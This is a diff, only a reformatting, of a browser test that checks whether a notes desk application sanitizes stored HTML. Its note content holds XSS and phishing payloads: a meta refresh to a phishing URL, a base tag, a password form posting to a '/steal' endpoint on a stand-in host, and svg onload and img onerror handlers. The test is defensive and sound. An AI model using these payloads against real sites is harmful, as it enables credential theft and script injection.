@@ -16,12 +16,17 @@ describe('the desk shows stored HTML only as clean formatting (browser)', functi
   it('a note carrying a meta refresh opens in place and the tab stays on the desk', async () => {
     const tag = randomUUID().slice(0, 8);
     const subject = `Aviso de Mesa ${tag}`;
-    await sendNote('intendente', { to: ['MESA'] }, {
-      reference: subject,
-      content: `<p>Texto de la nota <b>${tag}</b></p><meta http-equiv="refresh" content="0;url=${PHISH}"><base href="http://127.0.0.1:9/">`
-        + '<form action="http://127.0.0.1:9/steal"><input name="clave" type="password"><button>Enviar</button></form>'
-        + '<svg onload="alert(1)"><a href="http://127.0.0.1:9/svg">svg</a></svg><img src="x" id="clobber" onerror="alert(2)">',
-    });
+    await sendNote(
+      'intendente',
+      { to: ['MESA'] },
+      {
+        reference: subject,
+        content:
+          `<p>Texto de la nota <b>${tag}</b></p><meta http-equiv="refresh" content="0;url=${PHISH}"><base href="http://127.0.0.1:9/">` +
+          '<form action="http://127.0.0.1:9/steal"><input name="clave" type="password"><button>Enviar</button></form>' +
+          '<svg onload="alert(1)"><a href="http://127.0.0.1:9/svg">svg</a></svg><img src="x" id="clobber" onerror="alert(2)">',
+      },
+    );
 
     const { page } = await run.session(CARLOS);
     const outside: string[] = [];
@@ -39,7 +44,11 @@ describe('the desk shows stored HTML only as clean formatting (browser)', functi
     // The open note is in the address (?id=…): the tab is still on the desk's Notas.
     assert.equal(page.url().split('?')[0], `${run.desk}/notas`, 'the tab stays on the desk');
     await text.waitFor({ timeout: 1_000 });
-    assert.equal(await page.locator('.doc-html').locator('meta, base, form, input, button, svg, img, script').count(), 0, 'none of the hostile elements is in the page');
+    assert.equal(
+      await page.locator('.doc-html').locator('meta, base, form, input, button, svg, img, script').count(),
+      0,
+      'none of the hostile elements is in the page',
+    );
     assert.equal(await page.locator('#clobber').count(), 0);
     assert.deepEqual(outside, [], 'nothing was requested from the address the note named');
   });
